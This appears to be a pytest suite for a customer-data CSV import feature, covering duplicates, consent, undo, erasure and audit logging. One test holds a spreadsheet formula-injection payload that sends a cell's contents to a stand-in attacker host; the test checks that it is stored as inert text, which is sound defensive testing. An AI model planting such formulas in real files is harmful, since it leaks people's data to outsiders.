"""The import job (issue 8): check, import, duplicates, consent, source, all-or-nothing, undo.

Runs on a real database (SQLite, and PostgreSQL when TEST_DATABASE_URL is set); background
jobs run inline. Files are synthetic, in the layouts of real exports (tests/import_files.py).
"""

import io
import json
import os
from decimal import Decimal
from pathlib import Path

import pytest

from portal import erasure, search
from portal.db import is_postgresql
from portal.extensions import db
from portal.imports import importer
from portal.imports.mapping import Mapping
from portal.imports.reading import ImportFileError
from portal.imports.undo import undo
from portal.models import (
    Address,
    AuditEvent,
    ConsentEvent,
    ContactPoint,
    Customer,
    CustomerTag,
    ExternalReference,
    ImportChange,
    ImportJob,
    Purchase,
    PurchaseLine,
    Tag,
)
from tests.factories import make_customer
from tests.import_files import (
    SHOPIFY_ORDERS,
    csv_bytes,
    shopify_customers,
)
from tests.test_consent import give, make_purpose


@pytest.fixture
def ctx(app):
    with app.test_request_context("/"):
        yield app


@pytest.fixture
def email_purpose(ctx):
    return make_purpose("email_marketing")


@pytest.fixture
def sms_purpose(ctx):
    return make_purpose("sms_marketing")


def upload(data: bytes, filename="customers.csv", staff_id=None) -> ImportJob:
    return importer.receive(io.BytesIO(data), filename, staff_id)


def choose(job: ImportJob, **options) -> ImportJob:
    current = importer.options_of(job)
    for name, value in options.items():
        setattr(current, name, value)
    importer.save_choices(job, importer.mapping_of(job), current)
    return ImportJob.get_by_id(job.id)


def check(job: ImportJob) -> ImportJob:
    importer.start_check(job, "en")
    return ImportJob.get_by_id(job.id)


def run(job: ImportJob) -> ImportJob:
    importer.start_import(job, "en")
    return ImportJob.get_by_id(job.id)


def import_file(data: bytes, filename="customers.csv", **options) -> ImportJob:
    job = upload(data, filename)
    if options:
        job = choose(job, **options)
    job = check(job)
    assert job.status == "checked", job.error
    return run(job)


def found(query: str) -> list[str]:
    return [match.display_name for match in search.find(query).customers]


def customers_snapshot() -> dict:
    """Every row a customer import can touch, for "nothing changed" comparisons."""
    return {
        model.__name__: sorted(tuple(str(v) for v in row) for row in model.select().tuples())
        for model in (
            Customer,
            ContactPoint,
            Address,
            CustomerTag,
            Tag,
            ExternalReference,
            ConsentEvent,
            Purchase,
            PurchaseLine,
            ImportChange,
        )
    }


# --- Check, then import -------------------------------------------------------------------


def test_a_shopify_file_is_checked_then_imported_with_everything_it_says(
    ctx, email_purpose, sms_purpose
):
    job = upload(shopify_customers(), "shopify customers.csv")
    assert job.status == "uploaded" and job.source == "shopify_customers"
    assert importer.mapping_of(job).field_of("Customer ID") == "external_id"
    # The "accepts … marketing" columns are offered for the purposes named after them.
    assert importer.options_of(job).consent == {
        str(email_purpose.id): "column:accepts_email_marketing",
        str(sms_purpose.id): "column:accepts_sms_marketing",
    }
    before = customers_snapshot()

    job = check(job)
    summary = importer.summary_of(job)
    assert job.status == "checked"
    assert (summary.rows, summary.create, summary.error_rows) == (5, 3, 2)
    assert customers_snapshot() == before  # checking writes nothing
    assert [(p["row"], p["column"], p["code"]) for p in summary.problems] == [
        (4, "Email", "invalid_email"),
        (5, "Phone", "phone_invalid"),
    ]
    assert summary.problems[1]["params"]["value"] == "12"  # as the owner sees it, without the '

    preview = summary.preview[0]
    assert (preview["given_name"], preview["action"], preview["external_id"]) == (
        "Zofia",
        "create",
        "7493183373541",
    )
    assert preview["phones"][0][1] == "+48601234501"  # the ' is gone

    job = run(job)
    assert job.status == "done" and job.created_count == 3
    zofia = Customer.get(Customer.given_name == "Zofia")
    assert zofia.display_name == "Zofia Wiśniewska"
    assert zofia.source == "import" and "shopify customers.csv" in zofia.source_detail
    assert zofia.import_job_id == job.id and not zofia.external
    assert {(p.kind, p.normalized, p.is_primary) for p in zofia.contact_points} == {
        ("email", "zofia.w@example.com", True),
        ("phone", "+48601234501", True),
    }
    address = Address.get(Address.customer == zofia)
    assert (address.city, address.postal_code, address.country) == ("Kraków", "30-001", "PL")
    assert sorted(t.tag.name for t in zofia.customer_tags) == ["newsletter", "vip"]
    assert ExternalReference.get(ExternalReference.customer == zofia).value == "7493183373541"
    assert Customer.get(Customer.given_name == "Marta").note == "Prefers mornings"
    # Consent: a grant where the file says yes (e-mail for Zofia and Marta, SMS for Ivan).
    events = {
        (e.customer.given_name, e.purpose_id, e.granted, e.channel) for e in ConsentEvent.select()
    }
    assert events == {
        ("Zofia", email_purpose.id, True, "import"),
        ("Marta", email_purpose.id, True, "import"),
        ("Ivan", sms_purpose.id, True, "import"),
    }
    evidence = ConsentEvent.get(ConsentEvent.customer == zofia).evidence
    assert f"Import #{job.id}" in evidence and "shopify customers.csv" in evidence
    assert "row 2" in evidence and job.checksum[:16] in evidence
    # Found by search at once; the rows with errors were left out.
    assert found("Wiśniewska") == ["Zofia Wiśniewska"]
    make_customer("Later", "Added")  # the search index follows new customers again
    assert found("Added") == ["Later Added"]
    assert found("601234501") == ["Zofia Wiśniewska"]
    assert not Customer.select().where(Customer.given_name.in_(["Broken", "Li"])).exists()
    # The file is gone; its name, size and checksum stay.
    assert job.file_path == "" and not any(Path(ctx.instance_path, "imports").iterdir())
    assert job.filename == "shopify customers.csv"
    assert job.file_size == len(shopify_customers()) and len(job.checksum) == 64
    event = AuditEvent.get(AuditEvent.action == "customers_imported")
    assert event.target_id == job.id and event.actor_type == "system"
    assert "Zofia" not in event.details and "example.com" not in event.details


def test_reimporting_the_same_file_creates_no_duplicate(ctx, email_purpose):
    first = import_file(shopify_customers())
    count, events = Customer.select().count(), ConsentEvent.select().count()
    assert first.created_count == 3

    again = upload(shopify_customers())
    assert importer.earlier_imports_of_same_file(again) == [first]
    again = check(again)
    summary = importer.summary_of(again)
    assert (summary.create, summary.update) == (0, 3)
    again = run(again)
    assert again.created_count == 0 and again.updated_count == 0  # nothing new in it
    assert Customer.select().count() == count
    assert ConsentEvent.select().count() == events  # consent already recorded: no new events
    assert ContactPoint.select().count() == 5 and ExternalReference.select().count() == 3

    # Create mode makes new records for e-mail matches, but a source id is the same record.
    third = import_file(shopify_customers(), duplicates="create")
    assert third.created_count == 0 and Customer.select().count() == count


HEADERS = ["First name", "Last name", "E-mail", "Phone", "City", "Note"]


def existing_anna():
    return make_customer(
        "Anna", "", email="anna@example.com", phone="+48601000001", note="", tags=("regular",)
    )


def anna_file(**extra) -> bytes:
    row = {
        "First name": "Anna",
        "Last name": "Nowak",
        "E-mail": "ANNA@example.com",
        "Phone": "+48 601 000 002",
        "City": "Gdańsk",
        "Note": "From the fair",
    }
    return csv_bytes(HEADERS, [{**row, **extra}])


def test_a_row_matching_a_customer_by_email_fills_empty_fields_and_can_be_undone(ctx):
    anna = existing_anna()
    Customer.update(given_name="Anna", note="Likes tea").where(Customer.id == anna.id).execute()
    before = customers_snapshot()

    job = import_file(anna_file())
    assert job.updated_count == 1 and job.created_count == 0
    anna = Customer.get_by_id(anna.id)
    assert anna.family_name == "Nowak" and anna.display_name == "Anna Nowak"
    assert anna.note == "Likes tea"  # filled only where empty
    assert {p.normalized for p in anna.contact_points} == {
        "anna@example.com",
        "+48601000001",
        "+48601000002",
    }
    assert Address.get(Address.customer == anna).city == "Gdańsk"
    assert found("Gdańsk") == [] and found("601000002") == ["Anna Nowak"]

    counts = undo(ImportJob.get_by_id(job.id), staff_id=None)
    assert counts["reverted"] == 1 and counts["kept"] == 0
    assert customers_snapshot() == {
        **before,
        "ImportChange": [
            (str(c.id), str(job.id), str(anna.id), "{}") for c in ImportChange.select()
        ],
    }
    assert ImportJob.get_by_id(job.id).status == "undone"
    assert found("601000002") == []


def test_overwrite_replaces_values_and_skip_leaves_the_customer_alone(ctx):
    anna = existing_anna()
    Customer.update(note="Likes tea").where(Customer.id == anna.id).execute()
    import_file(anna_file(), duplicates="skip")
    assert Customer.get_by_id(anna.id).note == "Likes tea"
    assert ContactPoint.select().where(ContactPoint.customer == anna).count() == 2

    job = import_file(anna_file(), duplicates="update_overwrite")
    assert job.updated_count == 1
    assert Customer.get_by_id(anna.id).note == "From the fair"
    undo(ImportJob.get_by_id(job.id), staff_id=None)
    assert Customer.get_by_id(anna.id).note == "Likes tea"


def test_create_mode_makes_a_new_record_even_when_the_email_is_known(ctx):
    existing_anna()
    job = import_file(anna_file(), duplicates="create")
    assert job.created_count == 1
    assert Customer.select().where(Customer.given_name == "Anna").count() == 2


def test_rows_of_one_person_in_the_file_become_one_customer(ctx):
    data = csv_bytes(
        HEADERS,
        [
            {"First name": "Olga", "E-mail": "olga@example.com"},
            {
                "First name": "Olga",
                "Last name": "Sidorova",
                "E-mail": "Olga@Example.com",
                "Phone": "+79160000001",
            },
            {"First name": "Piotr", "E-mail": "piotr@example.com"},
        ],
    )
    job = import_file(data)
    summary = importer.summary_of(job)
    assert (job.created_count, summary.in_file_duplicates) == (2, 1)
    olga = Customer.get(Customer.given_name == "Olga")
    assert olga.family_name == "Sidorova"
    assert {p.normalized for p in olga.contact_points} == {"olga@example.com", "+79160000001"}


def test_undo_removes_created_customers_but_keeps_what_was_changed_since(ctx, email_purpose):
    job = import_file(shopify_customers())
    assert Customer.select().count() == 3
    marta = Customer.get(Customer.given_name == "Marta")
    ivan = Customer.get(Customer.given_name == "Ivan")
    # Someone records consent for Marta after the import: her record is kept.
    give(marta, email_purpose, granted=False, channel="verbal")

    counts = undo(ImportJob.get_by_id(job.id), staff_id=None)
    assert counts == {"removed": 2, "reverted": 0, "kept": 1, "purchases_removed": 0}
    assert [c.given_name for c in Customer.select()] == ["Marta"]
    assert not Customer.select().where(Customer.id == ivan.id).exists()
    assert not ContactPoint.select().where(ContactPoint.customer == ivan.id).exists()
    assert found("Petrov") == []
    assert ImportJob.get_by_id(job.id).undone_at is not None
    with pytest.raises(importer.ImportStateError):
        undo(ImportJob.get_by_id(job.id), staff_id=None)


def test_undo_puts_consent_back_with_new_events_never_by_rewriting(ctx, email_purpose):
    anna = existing_anna()
    give(anna, email_purpose, granted=False, channel="paper_form")
    data = csv_bytes(
        ["First name", "E-mail", "Accepts Email Marketing"],
        [{"First name": "Anna", "E-mail": "anna@example.com", "Accepts Email Marketing": "yes"}],
    )
    job = upload(data)
    assert importer.mapping_of(job).field_of("Accepts Email Marketing") == "accepts_email_marketing"
    job = check(choose(job, consent={str(email_purpose.id): "column:accepts_email_marketing"}))
    job = run(job)
    history = [(e.granted, e.channel) for e in ConsentEvent.select().order_by(ConsentEvent.id)]
    assert history == [(False, "paper_form"), (True, "import")]

    undo(ImportJob.get_by_id(job.id), staff_id=None)
    history = [(e.granted, e.channel) for e in ConsentEvent.select().order_by(ConsentEvent.id)]
    assert history == [(False, "paper_form"), (True, "import"), (False, "import")]
    assert "Undo of import" in ConsentEvent.select().order_by(ConsentEvent.id.desc()).get().evidence


def test_everyone_in_the_file_agreed_is_recorded_with_the_owners_evidence(ctx, email_purpose):
    data = csv_bytes(HEADERS, [{"First name": "Ewa", "E-mail": "ewa@example.com"}])
    job = import_file(
        data,
        consent={str(email_purpose.id): "everyone"},
        consent_evidence="Paper sign-up sheets, fair 2026",
    )
    event = ConsentEvent.get()
    assert event.granted and event.channel == "import"
    assert "Paper sign-up sheets, fair 2026" in event.evidence and job.filename in event.evidence


def test_an_external_list_is_marked_as_external_with_its_vendor(ctx):
    data = csv_bytes(HEADERS, [{"First name": "Ewa", "E-mail": "ewa@example.com"}])
    import_file(data, list_kind="external", vendor="Leads Ltd")
    ewa = Customer.get()
    assert ewa.external and ewa.source == "vendor_list"
    assert ewa.source_detail.startswith("Leads Ltd (")


def test_an_orders_export_brings_purchase_history_without_duplicates(ctx):
    existing_anna()
    rows = [
        {
            "Name": "#1001",
            "Email": "anna@example.com",
            "Currency": "PLN",
            "Total": "150.00",
            "Created at": "2026-03-01 10:00:00 +0100",
            "Lineitem quantity": "2",
            "Lineitem name": "Tea",
            "Lineitem price": "50.00",
            "Billing Name": "Anna Nowak",
        },
        {
            "Name": "#1001",
            "Email": "anna@example.com",
            "Lineitem quantity": "1",
            "Lineitem name": "Cup",
            "Lineitem price": "50.00",
        },
        {
            "Name": "#1002",
            "Email": "jan@example.com",
            "Currency": "PLN",
            "Total": "20.00",
            "Created at": "2026-03-02 11:00:00 +0100",
            "Lineitem quantity": "1",
            "Lineitem name": "Sugar",
            "Lineitem price": "20.00",
            "Billing Name": "Jan Kowalski",
        },
        {
            "Name": "#1003",
            "Email": "anna@example.com",
            "Currency": "PLN",
            "Total": "30.00",
            "Created at": "2026-03-05 11:00:00 +0100",
            "Lineitem quantity": "1",
            "Lineitem name": "Honey",
            "Lineitem price": "30.00",
            "Billing Name": "Anna Nowak",
        },
    ]
    data = csv_bytes(SHOPIFY_ORDERS, rows)
    job = import_file(data, "orders_export.csv")
    assert job.source == "shopify_orders"
    summary = importer.summary_of(job)
    assert (summary.orders, summary.purchases, job.created_count) == (3, 3, 1)
    anna = Customer.get(Customer.given_name == "Anna")
    assert (anna.purchase_count, anna.lifetime_value) == (2, Decimal("180.00"))
    tea = Purchase.get(Purchase.receipt_number == "#1001")
    assert sorted((line.product, line.quantity) for line in tea.lines) == [
        ("Cup", Decimal(1)),
        ("Tea", Decimal(2)),
    ]
    assert tea.currency == "PLN" and tea.import_job_id == job.id
    jan = Customer.get(Customer.given_name == "Jan")
    assert jan.purchase_count == 1 and jan.family_name == "Kowalski"

    again = import_file(data, "orders_export.csv")
    assert importer.summary_of(again).purchases_existing == 3
    assert Purchase.select().count() == 3 and Customer.select().count() == 2

    counts = undo(ImportJob.get_by_id(job.id), staff_id=None)
    assert counts["removed"] == 1 and counts["purchases_removed"] == 2
    anna = Customer.get_by_id(anna.id)
    assert (anna.purchase_count, anna.lifetime_value) == (0, Decimal("0"))
    assert Purchase.select().count() == 0 and PurchaseLine.select().count() == 0


# --- Bad files and bad rows -----------------------------------------------------------------


def test_an_unreadable_file_is_refused_and_nothing_is_kept(ctx):
    with pytest.raises(ImportFileError) as refused:
        upload(b"\x89PNG\r\n\x1a\n" + os.urandom(2000), "photo.csv")
    assert refused.value.code == "binary"
    assert ImportJob.select().count() == 0
    assert not any(Path(ctx.instance_path, "imports").iterdir())


def test_a_formula_in_a_cell_is_stored_as_plain_text(ctx):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = csv_bytes(
        HEADERS, [{"First name": "Eve", "Last name": formula, "E-mail": "eve@example.com"}]
    )
    import_file(data)
    assert Customer.get().family_name == formula  # kept as typed, never evaluated


def test_an_encoding_chosen_wrongly_is_reported_on_check_and_can_be_fixed(ctx):
    data = csv_bytes(
        ["Имя", "Фамилия", "Эл. почта"],
        [{"Имя": "Ольга", "Фамилия": "Смирнова", "Эл. почта": "olga@example.ru"}],
        encoding="windows-1251",
        delimiter=";",
    )
    job = upload(data, "клиенты.csv")
    assert importer.detected_of(job) == {"encoding": "windows-1251", "delimiter": ";"}
    job = check(choose(job, delimiter=","))
    assert job.status == "uploaded"
    assert importer.error_of(job).code == "headings_changed"
    job = check(choose(job, delimiter=""))
    assert job.status == "checked"
    run(job)
    assert found("Смирнова") == ["Ольга Смирнова"]


def test_a_failure_while_writing_leaves_the_database_as_it_was(ctx):
    make_customer("Kept", "Customer", email="kept@example.com")
    rows = [{"First name": f"Person{n}", "E-mail": f"p{n}@example.com"} for n in range(2500)]
    rows[2200]["First name"] = "Explode"
    job = check(upload(csv_bytes(HEADERS, rows)))
    before = customers_snapshot()
    # A real database error in the middle of writing (after two chunks are in).
    if is_postgresql(db):
        db.execute_sql(
            "CREATE FUNCTION explode() RETURNS trigger AS $$ BEGIN "
            "IF NEW.given_name = 'Explode' THEN RAISE EXCEPTION 'boom'; END IF; RETURN NEW; "
            "END $$ LANGUAGE plpgsql"
        )
        db.execute_sql(
            "CREATE TRIGGER explode BEFORE INSERT ON customer FOR EACH ROW EXECUTE FUNCTION explode()"
        )
    else:
        db.execute_sql(
            "CREATE TRIGGER explode BEFORE INSERT ON customer WHEN NEW.given_name = 'Explode' "
            "BEGIN SELECT RAISE(ABORT, 'boom'); END"
        )
    try:
        run(job)
    finally:
        db.execute_sql("DROP TRIGGER explode" + (" ON customer" if is_postgresql(db) else ""))
    assert customers_snapshot() == before
    job = ImportJob.get_by_id(job.id)
    assert job.status == "failed" and "boom" in job.error and job.file_path == ""
    assert found("Person1") == []


def test_importing_twice_at_once_is_refused(ctx):
    job = check(upload(anna_file()))
    importer.start_import(job, "en")
    with pytest.raises(importer.ImportStateError):
        importer.start_import(job, "en")


def test_uploads_left_unimported_expire_with_their_files(ctx):
    from datetime import timedelta

    job = upload(anna_file())
    path = Path(job.file_path)
    assert path.exists() and oct(path.stat().st_mode & 0o777) == "0o600"
    ImportJob.update(created_at=job.created_at - timedelta(days=2)).where(
        ImportJob.id == job.id
    ).execute()
    assert importer.expire_unfinished() == 1
    assert not path.exists() and ImportJob.get_by_id(job.id).status == "cancelled"


def test_saved_mappings_are_offered_for_files_with_the_same_headings(ctx):
    job = upload(anna_file())
    mapping = importer.mapping_of(job)
    assert mapping.field_of("Note") == "note"
    changed = Mapping({**mapping.columns, "Note": "ignore"}, mapping.source)
    importer.save_mapping("Fair lists", changed, None)
    again = upload(anna_file())
    assert importer.mapping_of(again).field_of("Note") == "ignore"
    other = upload(csv_bytes(["Name", "Email"], [{"Name": "Jo", "Email": "jo@example.com"}]))
    assert importer.mapping_of(other).field_of("Name") == "full_name"


def test_erasure_forgets_what_an_import_remembered_about_the_person(ctx):
    anna = existing_anna()
    job = import_file(anna_file(), duplicates="update_overwrite")
    job_customer = Customer.get(Customer.given_name == "Anna")
    change = ImportChange.get(ImportChange.customer == anna)
    assert "Anna" in change.snapshot or change.snapshot != "{}"
    data = csv_bytes(
        ["Customer ID", "First Name", "Email"],
        [{"Customer ID": "'555", "First Name": "Anna", "Email": "anna@example.com"}],
    )
    import_file(data)
    assert ExternalReference.select().where(ExternalReference.customer == anna).exists()
    erasure.erase(job_customer.id)
    assert ImportChange.get_by_id(change.id).snapshot == "{}"
    assert not ExternalReference.select().where(ExternalReference.customer == anna).exists()
    # The import can no longer bring back her earlier values.
    counts = undo(ImportJob.get_by_id(job.id), staff_id=None)
    assert counts["reverted"] == 0 and Customer.get_by_id(anna.id).erased_at is not None


def test_every_import_step_is_audited_without_personal_data(ctx):
    job = import_file(anna_file())
    undo(ImportJob.get_by_id(job.id), staff_id=None)
    steps = [
        (e.action, e.target_type, e.target_id)
        for e in AuditEvent.select()
        .where(AuditEvent.target_type == "import")
        .order_by(AuditEvent.id)
    ]
    assert steps == [
        ("import_uploaded", "import", job.id),
        ("customers_imported", "import", job.id),
        ("import_undone", "import", job.id),
    ]
    for event in AuditEvent.select():
        assert "anna" not in event.details.lower() and "601" not in event.details
    created = json.loads(AuditEvent.get(AuditEvent.action == "customers_imported").details)
    assert created["created"] == 1


def test_ragged_rows_are_reported_and_left_out_the_rest_is_imported(ctx):
    data = (
        b"First name,Last name,E-mail\r\n"
        b"Ala,Kot,ala@example.com\r\n"
        b"Ola,Nowak,ola@example.com,extra,cells\r\n"
        b"Ela\r\n"
    )
    job = check(upload(data))
    summary = importer.summary_of(job)
    codes = [(p["row"], p["code"], p["severity"]) for p in summary.problems]
    assert (3, "too_many_cells", "error") in codes
    assert (4, "too_few_cells", "error") in codes  # its values may sit in the wrong columns
    job = run(job)
    assert [c.given_name for c in Customer.select()] == ["Ala"]


def test_a_huge_single_field_stops_the_check_with_a_clear_message(ctx):
    data = b'First name,Note\r\nAla,"' + b"x" * 70_000 + b'"\r\n'
    job = check(upload(data))
    error = importer.error_of(job)
    assert job.status == "uploaded" and error.code == "field_too_large"
    assert "Row 2" in str(error.message) and Customer.select().count() == 0


def test_an_import_holds_no_more_memory_for_a_bigger_file(ctx):
    """Streaming: the Python heap an import needs does not grow with the number of rows."""
    import tracemalloc

    peaks = []
    for count, start in ((3000, 0), (12000, 3000)):
        rows = [
            {
                "First name": f"Given{n}",
                "Last name": f"Family{n}",
                "E-mail": f"p{n}@example.com",
                "Phone": f"+48 5{n:08d}",
                "City": "Łódź",
                "Note": "x" * 40,
            }
            for n in range(start, start + count)
        ]
        job = check(upload(csv_bytes(HEADERS, rows)))
        # search's word cache is bounded: fill it to its bound first, so that what earlier tests
        # left in it does not decide whether the first run grows it more than the second.
        for n in range(search._cached_words.cache_info().maxsize):
            search._cached_words(f"warm {n}")
        tracemalloc.start()
        try:
            job = run(job)
            _current, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert job.created_count == count
        peaks.append(peak)
    assert peaks[1] < 1.3 * peaks[0] and peaks[1] < 40 * 1_048_576, [p >> 20 for p in peaks]


def test_repeated_rows_differing_only_in_letter_case_give_one_contact(ctx):
    data = csv_bytes(
        HEADERS,
        [
            {"First name": "Anna", "E-mail": "Anna.Nowak@Example.com", "Phone": "+48 601 000 001"},
            {"First name": "Anna", "E-mail": "anna.nowak@example.com", "Phone": "+48601000001"},
        ],
    )
    import_file(data)
    anna = Customer.get()
    assert sorted((p.kind, p.normalized) for p in anna.contact_points) == [
        ("email", "anna.nowak@example.com"),
        ("phone", "+48601000001"),
    ]
